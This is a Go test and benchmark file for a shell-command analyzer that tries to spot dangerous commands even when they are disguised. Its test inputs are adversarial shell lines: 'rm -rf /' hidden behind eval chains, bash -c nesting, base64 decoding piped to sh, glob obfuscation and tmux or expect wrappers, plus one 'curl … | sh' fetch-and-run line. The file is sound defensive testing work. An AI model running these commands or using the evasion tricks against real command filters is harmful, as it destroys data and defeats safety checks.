package shell

import (
	"encoding/base64"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/belay-sh/belay/internal/shell/worstcase"
	"mvdan.cc/sh/v3/syntax"
)

// pathological is input built to make an analyzer slow or deep: each must
// be analysed quickly, and either be seen through (the dangerous command
// inside is found) or leave a Problem, which the policy turns into confirm.
type pathological struct {
	name string
	line string
	// want says what the analysis must hold: "rm" (an rm invocation was
	// found), "problem" (a limit was hit), or "" (nothing in particular).
	want string
}

// pathologicalLines builds the inputs once; some are megabytes.
func pathologicalLines() []pathological {
	mb := 1 << 20
	evals := func(n int) string { return strings.Repeat("eval ", n) + "rm -rf /" }
	bashC := func(n int) string {
		// One bash -c around eval chains: no quoting inside the string, so
		// the line grows linearly with the depth.
		return "bash -c '" + evals(n-1) + "'"
	}
	var wrap strings.Builder
	for range 64 {
		wrap.WriteString("sudo -u x nice timeout 5 env -i ")
	}
	wrap.WriteString("rm -rf /")
	words := "rm -rf /" + strings.Repeat(" a", 100000)
	var files strings.Builder
	for i := range 1000 {
		files.WriteString("echo ls > f" + strconv.Itoa(i) + "; ")
	}
	// Computed output (decode.go): a stage prints at most maxStageBytes,
	// a line maxDecodeBytes in all, maxStages stages in a row.
	b64 := base64.StdEncoding.EncodeToString([]byte("rm -rf /\n" + strings.Repeat("#", 40<<10) + "\n"))
	wide := strings.Repeat("printf '"+strings.Repeat("%4000s", 16)+"' x | sh; ", 20)
	return []pathological{
		{"decode-40KB-16-stages", "echo " + b64 + " | base64 -d" + strings.Repeat(" | rev", 14) + " | sh", "rm"},
		{"decode-1000-stages", "echo 'rm -rf /'" + strings.Repeat(" | rev", 1000) + " | sh", ""},
		{"decode-over-budget", wide, "problem"},
		{"printf-50000-args", "printf 'rm -rf %s\\n' " + strings.Repeat("/ ", 50000) + "| sh", ""},
		{"printf-width", "printf '%0999999999d' 0 | sh", ""},
		{"echo-subst-1000-deep", "rm -rf " + strings.Repeat("$(echo ", 1000) + "/" + strings.Repeat(")", 1000), ""},
		{"xargs-50000-lines", "printf '%s\\n' " + strings.Repeat("/ ", 50000) + "| xargs -I{} rm -rf {}", "rm"},
		{"parallel-cross-3x1000", "parallel rm -rf {1}{2}{3} ::: " + strings.Repeat("a ", 1000) + "::: " + strings.Repeat("b ", 1000) + "::: /", "rm"},
		{"tmux-5000-commands", "tmux " + strings.Repeat("new -d 'rm -rf /' \\; ", 5000), "rm"},
		{"send-keys-50000", "tmux send-keys " + strings.Repeat("a ", 50000) + "Enter", ""},
		{"expect-10000-braces", "expect -c '" + strings.Repeat("{", 10000) + "spawn rm -rf /" + strings.Repeat("}", 10000) + "'", "problem"},
		{"expect-8000-commands", "expect -c '" + strings.Repeat("spawn rm -rf /;", 8000) + "'", "rm"},
		{"tr-10000-sets", "echo x | tr " + strings.Repeat("a-z", 10000) + " " + strings.Repeat("A-Z", 10000) + " | sh", ""},
		{"curl-10000-stages", "curl https://x.example" + strings.Repeat(" | cat", 10000) + " | sh", ""},
		{"1MB-one-word", "rm -rf /" + " " + strings.Repeat("a", mb-len("rm -rf / ")), "rm"},
		{"1MB-statements", strings.Repeat("a;", mb/2-5) + "rm -rf /", "problem"},
		{"1MB-pipes", strings.Repeat("a|", mb/2-5) + "rm -rf /", "problem"},
		{"1MB-quoted", "echo '" + strings.Repeat("x", mb-10) + "'", ""},
		{"over-1MB", strings.Repeat("a", mb+1), "problem"},
		{"10000-nested-substs", strings.Repeat("$(", 10000) + "rm -rf /" + strings.Repeat(")", 10000), "problem"},
		{"10000-unclosed-substs", strings.Repeat("$(", 10000), "problem"},
		{"10000-unclosed-substs-rm", strings.Repeat("$(", 10000) + "rm -rf /", "problem"},
		{"10000-nested-backquotes", strings.Repeat("echo $(", 10000) + strings.Repeat(")", 10000), "problem"},
		{"brace-100000", "rm -rf /{1..100000}", "rm"},
		{"brace-nested", "rm -rf /" + strings.Repeat("{a,b}", 40), "rm"},
		{"brace-product", "rm -rf /{1..100}{1..100}{1..100}", "rm"},
		{"nested-300KB", "bash -c '" + strings.Repeat("a;", 150<<10) + "'", "problem"},
		{"63-evals", evals(63), "rm"},
		{"64-evals", evals(64), "problem"},
		{"10000-evals", evals(10000), "problem"},
		{"bash-c-64-levels", bashC(64), "problem"},
		{"bash-c-63-levels", bashC(63), "rm"},
		{"64-wrapper-chains", wrap.String(), "rm"},
		{"100000-words", words, "rm"},
		{"100000-words-subst", "rm -rf $(" + strings.Repeat(" a", 100000) + ")", "rm"},
		// Disguises of issue #15's second pass: files and descriptors the
		// line runs, read's names, mapfile's lines, cut's ranges, hash.
		{"own-file-fork", "echo 'sh f; sh f; sh f' > f; sh f", "problem"},
		{"own-fd-fork", "exec 3<<<'sh <&3; sh <&3'; sh <&3", "problem"},
		{"own-1000-files", files.String() + "echo 'rm -rf /' > x; sh x", "rm"},
		{"read-10000-names", "read " + strings.Repeat("a ", 10000) + "<<< 'rm -rf /'; $a", ""},
		{"mapfile-100000-lines", "mapfile -t a < <(printf '%s\\n' {1..100000}); rm -rf /", "rm"},
		{"cut-10000-ranges", "echo 'rm -rf /' | cut -c" + strings.Repeat("1-,", 10000) + "1 | sh", ""},
		{"hash-10000-names", "hash -p /bin/rm " + strings.Repeat("a ", 10000) + "; a -rf /", "rm"},
		{"glob-name", "/???/r? -rf /", "rm"},
	}
}

func TestPathologicalLines(t *testing.T) {
	for _, p := range pathologicalLines() {
		t.Run(p.name, func(t *testing.T) {
			start := time.Now()
			a := Analyze(p.line, testOpts)
			took := time.Since(start)
			for _, pr := range a.Problems {
				if strings.Contains(pr, "internal error") {
					t.Fatalf("internal error: %s", pr)
				}
			}
			switch p.want {
			case "rm":
				found := false
				for _, inv := range a.Invocations {
					if inv.Name == "rm" {
						found = true
					}
				}
				if !found && len(a.Problems) == 0 {
					t.Errorf("no rm found and no problem: %d invocations", len(a.Invocations))
				}
			case "problem":
				if len(a.Problems) == 0 && a.ParseError == nil {
					t.Errorf("no problem reported: %d invocations", len(a.Invocations))
				}
			}
			// How long it took is the benchmark's to judge
			// (BenchmarkPathological, BenchmarkWorstCases): the work budget
			// bounds it, and a hang fails the run by go test's timeout.
			for _, inv := range a.Invocations {
				if len(inv.Text) > 2*len(p.line)+maxPrint*8 && len(inv.Text) > 1<<20 {
					t.Errorf("invocation text of %d bytes", len(inv.Text))
				}
			}
			t.Logf("%v, %d invocations, problems %q", took, len(a.Invocations), a.Problems)
		})
	}
}

// BenchmarkPathological measures the analysis of each pathological line.
func BenchmarkPathological(b *testing.B) {
	for _, p := range pathologicalLines() {
		b.Run(p.name, func(b *testing.B) {
			for b.Loop() {
				Analyze(p.line, testOpts)
			}
		})
	}
}

// BenchmarkPathologicalArgv: the argv path with 100,000 words and a
// 1 MB argument.
func BenchmarkPathologicalArgv(b *testing.B) {
	words := append([]string{"rm", "-rf", "/"}, strings.Split(strings.Repeat("a ", 100000), " ")...)
	b.Run("100000-words", func(b *testing.B) {
		for b.Loop() {
			AnalyzeArgv(words, testOpts)
		}
	})
	big := []string{"bash", "-c", strings.Repeat("a;", 1<<19)}
	b.Run("bash-c-1MB", func(b *testing.B) {
		for b.Loop() {
			AnalyzeArgv(big, testOpts)
		}
	})
}

// TestLargeNodeText: a huge word is shown by the start of its source, not
// printed whole at every level it is analysed at.
func TestLargeNodeText(t *testing.T) {
	line := "rm -rf /$(" + strings.Repeat("echo $(", 2000) + strings.Repeat(")", 2000) + ")"
	a := Analyze(line, testOpts)
	var rm *Invocation
	for _, inv := range a.Invocations {
		if inv.Name == "rm" {
			rm = inv
		}
	}
	if rm == nil {
		t.Fatal("no rm")
	}
	if len(rm.Text) > maxPrint+100 || !strings.HasPrefix(rm.Text, "rm -rf /$(echo $(echo") || !strings.HasSuffix(rm.Text, "…") {
		t.Errorf("text %.80q… (%d bytes)", rm.Text, len(rm.Text))
	}
	if len(rm.Argv) != 3 || rm.Argv[2].Value != "/" || !rm.Argv[2].Dynamic {
		t.Errorf("argv %+v", rm.Argv[:min(3, len(rm.Argv))])
	}
}

// TestBraceWords counts brace expansions the way expand makes them.
func TestBraceWords(t *testing.T) {
	for _, tt := range []struct {
		word string
		want int
	}{
		{"x", 1}, {"{a,b}", 2}, {"{a,b}{c,d,e}", 6}, {"{a,{b,c}}", 3}, {"{1..10}", 10},
		{"{10..1..3}", 4}, {"{a..e}", 5}, {"{x}", 1}, {"a{b", 1}, {"{1..100000}", maxBraceWords + 1},
		{strings.Repeat("{a,b}", 15), maxBraceWords + 1},
	} {
		f, err := parse("echo "+tt.word, Bash)
		if err != nil {
			t.Fatal(err)
		}
		w := f.Stmts[0].Cmd.(*syntax.CallExpr).Args[1]
		if got := braceWords(w); got != tt.want {
			t.Errorf("braceWords(%s) = %d, want %d", tt.word, got, tt.want)
		}
	}
}

// BenchmarkPathologicalParse measures the parser alone (mvdan.cc/sh), on
// the inputs where it is most of the cost.
func BenchmarkPathologicalParse(b *testing.B) {
	for _, p := range pathologicalLines() {
		if !strings.HasPrefix(p.name, "1MB-") {
			continue
		}
		b.Run(p.name, func(b *testing.B) {
			for b.Loop() {
				parse(p.line, Bash)
			}
		})
	}
	for _, kb := range []int{128, 256} {
		line := strings.Repeat("a|", kb<<9)
		b.Run(strconv.Itoa(kb)+"KB-pipes", func(b *testing.B) {
			for b.Loop() {
				parse(line, Bash)
			}
		})
	}
}

// worstLines are the generated worst cases (package worstcase): the
// examples of issue 12, and every family filling what a hook passes
// (32 KiB) and what belay check reads (128 KiB).
func worstLines() []worstcase.Line {
	lines := worstcase.Fixed()
	lines = append(lines, worstcase.Lines(32<<10)...)
	return append(lines, worstcase.Lines(128<<10)...)
}

// deletesRoot reports whether the analysis holds an rm that deletes /.
func deletesRoot(a *Analysis) bool {
	for _, inv := range a.Invocations {
		if inv.Name != "rm" {
			continue
		}
		for _, e := range inv.Effects {
			if e.Kind == Delete && e.Path == "/" {
				return true
			}
		}
	}
	return false
}

// maxCharge bounds what the analysis can charge past maxWork: one step
// (an invocation recorded, a word expanded) charged whole before the
// analysis stops. Larger ones are let through only while half the budget
// is left.
const maxCharge = maxWork

// TestWorstCases: every generated worst case is analysed within the work
// budget, and the rm -rf / at its end is found or a problem says why not;
// never neither.
func TestWorstCases(t *testing.T) {
	for _, l := range worstLines() {
		t.Run(l.Name, func(t *testing.T) {
			a := Analyze(l.Text, testOpts)
			for _, p := range a.Problems {
				if strings.Contains(p, "internal error") {
					t.Fatalf("internal error: %s", p)
				}
			}
			if a.work > maxWork+maxCharge {
				t.Errorf("work %d, budget %d", a.work, maxWork)
			}
			found := deletesRoot(a)
			if l.Runs && !found && len(a.Problems) == 0 {
				t.Errorf("rm -rf / not found and no problem: %d invocations, parse error %v", len(a.Invocations), a.ParseError)
			}
			t.Logf("%s: %d bytes, work %d, %d invocations, rm found %v, problems %.200q", l.Name, len(l.Text), a.work, len(a.Invocations), found, a.Problems)
		})
	}
}

// TestWorstCasesCoverWrappers: the generated chains cover every wrapper
// the analyzer sees through.
func TestWorstCasesCoverWrappers(t *testing.T) {
	for _, c := range wrapperCommands {
		if _, ok := worstcase.Chains[c.name]; !ok {
			t.Errorf("no worst-case chain for wrapper %s", c.name)
		}
	}
}

// BenchmarkWorstCases measures the analysis of each generated worst case:
// time (wall, and CPU of the whole process, GC included), bytes allocated
// per line, and the work units it was charged. The judged figures
// (Analyze and Decide against the built-in packs, and peak RSS) are
// BenchmarkWorstCasesJudged and BenchmarkWorstCasesRSS in internal/policy.
func BenchmarkWorstCases(b *testing.B) {
	for _, l := range worstLines() {
		b.Run(l.Name, func(b *testing.B) {
			b.ReportAllocs()
			var work int64
			cpu := processCPU()
			for b.Loop() {
				work = Analyze(l.Text, testOpts).work
			}
			b.ReportMetric(float64(processCPU()-cpu)/float64(b.N)/1e6, "cpu-ms/op")
			b.ReportMetric(float64(work), "work")
		})
	}
}

// processCPU is the CPU time the process has used, in nanoseconds: on a
// machine shared with other work it says more than wall time.
func processCPU() int64 {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return ru.Utime.Nano() + ru.Stime.Nano()
}
